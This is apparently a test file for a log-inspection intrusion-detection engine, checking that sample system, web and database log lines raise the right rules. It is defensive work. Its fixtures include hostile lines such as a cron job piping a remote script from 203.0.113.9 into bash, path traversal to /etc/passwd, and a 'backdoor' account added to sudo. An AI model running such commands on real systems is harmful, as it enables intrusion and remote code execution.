import assert from 'node:assert/strict';
import { test } from 'node:test';
import { compileRuleset, LogInspectionEngine } from '../engine/index.js';
import { builtInRuleset, recommendedGroups } from './index.js';

const T0 = Date.UTC(2026, 10, 18, 12);

function engine(): LogInspectionEngine {
  const { ruleset, problems } = compileRuleset(builtInRuleset());
  assert.deepEqual(problems, []);
  return new LogInspectionEngine(ruleset);
}

/** Sample lines written for these rules, and the rule each must raise. */
const CASES: [string, number, string][] = [
  ['Nov 18 12:00:01 web-01 sshd[811]: Failed password for alice from 203.0.113.7 port 52144 ssh2', 100101, 'sshd'],
  [
    'Nov 18 12:00:01 web-01 sshd[811]: Failed password for invalid user oracle from 203.0.113.7 port 52144 ssh2',
    100102,
    'sshd',
  ],
  ['Nov 18 12:00:01 web-01 sshd[811]: Invalid user admin from 198.51.100.4 port 40022', 100102, 'sshd'],
  [
    'Nov 18 12:00:01 web-01 sshd[811]: Accepted publickey for deploy from 192.0.2.10 port 50022 ssh2: ED25519 SHA256:x',
    100103,
    'sshd',
  ],
  ['Nov 18 12:00:01 web-01 sshd[811]: Accepted password for root from 192.0.2.10 port 50022 ssh2', 100104, 'sshd'],
  [
    'Nov 18 12:00:01 web-01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update',
    100201,
    'sudo',
  ],
  [
    'Nov 18 12:00:01 web-01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash',
    100202,
    'sudo',
  ],
  [
    'Nov 18 12:00:01 web-01 sudo: pam_unix(sudo:auth): authentication failure; logname=bob uid=1001 euid=0 tty=/dev/pts/1 ruser=bob rhost=  user=bob',
    100203,
    'sudo',
  ],
  [
    'Nov 18 12:00:01 web-01 sudo:      eve : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh',
    100204,
    'sudo',
  ],
  ['Nov 18 12:00:01 web-01 su[901]: (to root) alice on pts/1', 100301, 'su'],
  ['Nov 18 12:00:01 web-01 su[902]: FAILED su for root by mallory', 100302, 'su'],
  [
    'Nov 18 12:00:01 web-01 login[77]: pam_unix(login:auth): authentication failure; logname=LOGIN uid=0 euid=0 tty=tty1 ruser= rhost=  user=root',
    100350,
    '',
  ],
  [
    'Nov 18 12:00:01 web-01 useradd[77]: new user: name=backdoor, UID=1005, GID=1005, home=/home/backdoor, shell=/bin/bash',
    100401,
    'accounts',
  ],
  ["Nov 18 12:00:01 web-01 usermod[78]: add 'backdoor' to group 'sudo'", 100405, 'accounts'],
  ["Nov 18 12:00:01 web-01 usermod[78]: change user 'bob' shell", 100404, 'accounts'],
  ["Nov 18 12:00:01 web-01 userdel[79]: delete user 'bob'", 100402, 'accounts'],
  ['Nov 18 12:00:01 web-01 groupadd[80]: new group: name=ops, GID=1010', 100403, 'accounts'],
  ['Nov 18 12:00:01 web-01 passwd[81]: pam_unix(passwd:chauthtok): password changed for alice', 100406, 'accounts'],
  ['Nov 18 12:00:01 web-01 crontab[91]: (alice) REPLACE (alice)', 100501, 'cron'],
  ['Nov 18 12:00:01 web-01 CRON[92]: (www-data) CMD (curl -s http://203.0.113.9/x.sh | bash)', 100502, 'cron'],
  ["Nov 18 12:00:01 web-01 systemd[1]: nginx.service: Failed with result 'exit-code'.", 100601, 'systemd'],
  [
    'Nov 18 12:00:01 web-01 kernel: [8812.1] Out of memory: Killed process 4242 (java) total-vm:9000000kB',
    100701,
    'kernel',
  ],
  [
    'Nov 18 12:00:01 web-01 kernel: [8812.1] php-fpm[1234]: segfault at 0 ip 00007f00 sp 00007ffd error 4 in libc.so.6',
    100702,
    'kernel',
  ],
  [
    'Nov 18 12:00:01 web-01 kernel: [8812.1] usb 1-1: new high-speed USB device number 5 using xhci_hcd',
    100703,
    'kernel',
  ],
  ['Nov 18 12:00:01 web-01 kernel: [8812.1] usb-storage 1-1:1.0: USB Mass Storage device detected', 100704, 'kernel'],
  [
    'type=USER_LOGIN msg=audit(1700000000.123:42): pid=812 uid=0 auid=4294967295 ses=4294967295 msg=\'op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.7 terminal=ssh res=failed\'',
    100801,
    'auditd',
  ],
  [
    'type=CONFIG_CHANGE msg=audit(1700000000.124:43): auid=1000 ses=2 op=remove_rule key="identity" list=4 res=1',
    100804,
    'auditd',
  ],
  ['2026-11-18 12:00:01 status installed nmap:amd64 7.93+dfsg1-1', 100901, 'dpkg'],
  ['Nov 18 12:00:01 web-01 dnf[512]: Installed: socat-1.7.4.1-5.el9.x86_64', 100911, 'dnf'],
  [
    '203.0.113.50 - - [18/Nov/2026:12:00:01 +0000] "GET /index.php?page=../../../../etc/passwd HTTP/1.1" 200 512 "-" "curl/8.0"',
    101003,
    'web-access',
  ],
  [
    '203.0.113.50 - - [18/Nov/2026:12:00:01 +0000] "GET /login HTTP/1.1" 200 512 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"',
    101004,
    'web-access',
  ],
  [
    '203.0.113.50 - - [18/Nov/2026:12:00:01 +0000] "GET /missing HTTP/1.1" 404 153 "-" "Mozilla/5.0"',
    101001,
    'web-access',
  ],
  [
    '203.0.113.50 - - [18/Nov/2026:12:00:01 +0000] "POST /api HTTP/1.1" 502 153 "-" "Mozilla/5.0"',
    101002,
    'web-access',
  ],
  [
    '2026/11/18 12:00:01 [error] 811#811: *4 access forbidden by rule, client: 203.0.113.50, server: _, request: "GET /.git/config HTTP/1.1"',
    101101,
    'nginx-error',
  ],
  [
    '[Wed Nov 18 12:00:01.123456 2026] [core:error] [pid 4242] [client 203.0.113.50:51234] AH00126: Invalid URI in request GET /../../etc/passwd HTTP/1.1',
    101201,
    'apache-error',
  ],
  [
    '2026-11-18 12:00:01.123 UTC [4242] FATAL:  password authentication failed for user "postgres"',
    101301,
    'postgresql',
  ],
  [
    "2026-11-18T12:00:01.123456Z 27 [Warning] Access denied for user 'root'@'203.0.113.50' (using password: YES)",
    101401,
    'mysql',
  ],
];

test('each sample line raises its rule, with the decoder named', () => {
  const e = engine();
  for (const [line, id, decoder] of CASES) {
    const v = e.process({ line, location: '/var/log/test', time: T0 });
    assert.equal(v.rule?.id, id, `${line}\n  got ${v.rule?.id} (${v.decoder})`);
    assert.equal(v.decoder ?? '', decoder, line);
    assert.ok(v.alert);
    assert.ok(!e.describe(v).includes('$('));
  }
});

test('ordinary lines raise nothing', () => {
  const e = engine();
  for (const line of [
    'Nov 18 12:00:01 web-01 CRON[92]: (root) CMD (/usr/local/bin/backup.sh)',
    'Nov 18 12:00:01 web-01 systemd[1]: Started Session 42 of User alice.',
    '203.0.113.50 - - [18/Nov/2026:12:00:01 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0"',
    'Nov 18 12:00:01 web-01 sshd[811]: Received disconnect from 192.0.2.10 port 50022:11: disconnected by user',
  ]) {
    const v = e.process({ line, location: '/var/log/test', time: T0 });
    assert.equal(v.alert, false, `${line} raised ${v.rule?.id}`);
  }
});

test('sshd brute force: the eighth failure from one address within two minutes', () => {
  const e = engine();
  const ids: (number | undefined)[] = [];
  for (let i = 0; i < 8; i++) {
    const v = e.process({
      line: `Nov 18 12:00:0${i} web-01 sshd[811]: Failed password for root from 203.0.113.7 port 5214${i} ssh2`,
      location: 'auth.log',
      time: T0 + i * 5000,
    });
    ids.push(v.rule?.id);
  }
  assert.deepEqual(ids, [100101, 100101, 100101, 100101, 100101, 100101, 100101, 100105]);
  const v = e.process({
    line: 'Nov 18 12:00:09 web-01 sshd[811]: Failed password for root from 198.51.100.1 port 1 ssh2',
    location: 'auth.log',
    time: T0 + 41_000,
  });
  assert.equal(v.rule?.id, 100101, 'another address does not count');
});

test('web: a burst of client errors from one address is scanning', () => {
  const e = engine();
  let last: number | undefined;
  for (let i = 0; i < 15; i++) {
    last = e.process({
      line: `203.0.113.77 - - [18/Nov/2026:12:00:01 +0000] "GET /p${i} HTTP/1.1" 404 10 "-" "x"`,
      location: 'access.log',
      time: T0 + i * 1000,
    }).rule?.id;
  }
  assert.equal(last, 101005);
});

test('every rule group says when it is recommended, and recommendation follows the inventory', () => {
  const { ruleset } = compileRuleset(builtInRuleset());
  const groups = new Set([...ruleset.rulesById.values()].map((r) => r.groups[0]));
  for (const g of groups)
    assert.ok(g && recommendedGroups({ packages: [], services: [] }, true).has(g), `group ${g} has no recommendation`);
  const web = recommendedGroups({ packages: ['nginx'], services: [] });
  assert.ok(web.has('web'));
  assert.ok(!web.has('database'));
  assert.ok(web.has('kernel'));
  assert.ok(recommendedGroups({ packages: [], services: ['postgresql'] }).has('database'));
});
